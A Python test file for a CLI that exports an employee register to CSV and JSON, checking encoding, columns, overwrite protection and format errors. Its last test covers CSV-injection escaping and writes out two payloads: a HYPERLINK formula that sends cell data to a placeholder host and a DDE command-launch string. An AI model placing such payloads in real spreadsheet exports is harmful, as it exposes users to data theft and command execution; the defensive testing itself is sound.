"""``kkod employer export``: the register for other document-management systems (CSV and JSON)."""

from __future__ import annotations

import csv
import io
import json

from typer.testing import CliRunner

from kkod.cli.app import app
from kkod.employer.database import open_register
from kkod.employer.export import FIELDS, to_csv, to_json
from kkod.employer.importer import import_reply

runner = CliRunner()


def _imported(employer_env, make_table, make_reply_eml, code_for) -> None:
    import_reply(
        open_register(employer_env),
        make_reply_eml(make_table(), {2: code_for(1), 4: code_for(3)}),
    )


def test_csv_is_utf8_with_bom_semicolons_and_the_documented_columns(
    employer_env, make_table, make_reply_eml, code_for, tmp_path
):
    _imported(employer_env, make_table, make_reply_eml, code_for)
    out = tmp_path / "nyilvantartas.csv"
    result = runner.invoke(app, ["employer", "export", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert tuple(rows[0]) == FIELDS
    assert len(rows) == 6
    by_id = {row[0]: dict(zip(FIELDS, row, strict=True)) for row in rows[1:]}
    assert by_id["HR-001"]["kapcsolati_kod"] == code_for(1)
    assert by_id["HR-001"]["allapot"] == "kódolt" and by_id["HR-001"]["generalt_azonosito"] == "nem"
    assert by_id["HR-002"]["kapcsolati_kod"] == ""
    assert by_id["HR-002"]["allapot"] == "nincs találat"
    assert by_id["HR-002"]["anyja_szuletesi_neve"] == "Fekete Ilona"
    assert by_id["HR-003"]["szuletesi_ido"] == "1990.01.30"
    generated = [row for key, row in by_id.items() if key.startswith("GEN-")]
    assert len(generated) == 1 and generated[0]["generalt_azonosito"] == "igen"
    assert "kkod employer connect HR-002" in by_id["HR-002"]["kovetkezo_lepes"]
    assert by_id["HR-001"]["modositva"].endswith("Z")


def test_json_is_an_array_of_objects_and_goes_to_stdout_without_o(
    employer_env, make_table, make_reply_eml, code_for
):
    _imported(employer_env, make_table, make_reply_eml, code_for)
    result = runner.invoke(app, ["employer", "export", "--format", "json"])
    assert result.exit_code == 0, result.output
    records = json.loads(result.stdout)
    assert isinstance(records, list) and len(records) == 5
    assert all(tuple(r) == FIELDS for r in records)
    kiss = next(r for r in records if r["belso_azonosito"] == "HR-001")
    assert kiss["kapcsolati_kod"] == code_for(1) and kiss["generalt_azonosito"] is False
    toth = next(r for r in records if r["belso_azonosito"] == "HR-002")
    assert toth["kapcsolati_kod"] is None and toth["viselt_nev"] == "Tóth Pálné"


def test_an_empty_register_exports_only_the_header(employer_env, tmp_path):
    out = tmp_path / "ures.csv"
    result = runner.invoke(app, ["employer", "export", "--format", "CSV", "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == ("\ufeff" + ";".join(FIELDS) + "\r\n").encode("utf-8")


def test_an_unknown_format_is_refused(employer_env, tmp_path):
    result = runner.invoke(
        app, ["employer", "export", "--format", "xml", "-o", str(tmp_path / "x")]
    )
    assert result.exit_code == 2
    assert not (tmp_path / "x").exists()


def test_an_existing_export_file_is_kept_unless_forced(employer_env, tmp_path):
    out = tmp_path / "nyilvantartas.csv"
    out.write_text("a DMS-nek tegnap átadott lista", encoding="utf-8")
    refused = runner.invoke(app, ["employer", "export", "--format", "csv", "-o", str(out)])
    assert refused.exit_code == 2 and "már létezik" in " ".join(refused.output.split())
    assert out.read_text(encoding="utf-8") == "a DMS-nek tegnap átadott lista"
    forced = runner.invoke(
        app, ["employer", "export", "--format", "csv", "-o", str(out), "--force"]
    )
    assert forced.exit_code == 0, forced.output
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    kept = tmp_path / "nyilvantartas.bak.csv"
    assert kept.read_text(encoding="utf-8") == "a DMS-nek tegnap átadott lista"


def test_csv_fields_that_look_like_formulas_are_shown_as_written_not_run():
    """CSV injection (OWASP): a record id or name starting with = + - @ gets a leading
    apostrophe in the CSV, so Excel shows it as text; the JSON export keeps it as is."""
    record = dict.fromkeys(FIELDS, "Kiss Anna")
    record["belso_azonosito"] = '=HYPERLINK("http://x.invalid/?"&D2)'
    record["viselt_nev"] = "+cmd|' /C calc'!A0"
    record["anyja_szuletesi_neve"] = "-Nagy Mária"
    rows = list(csv.reader(io.StringIO(to_csv([record]).decode("utf-8-sig")), delimiter=";"))
    fields = dict(zip(FIELDS, rows[1], strict=True))
    assert fields["belso_azonosito"] == "'" + record["belso_azonosito"]
    assert fields["viselt_nev"] == "'" + record["viselt_nev"]
    assert fields["anyja_szuletesi_neve"] == "'-Nagy Mária"
    assert not any(value.startswith(("=", "+", "-", "@")) for value in rows[1])
    assert json.loads(to_json([record]))[0]["viselt_nev"] == record["viselt_nev"]
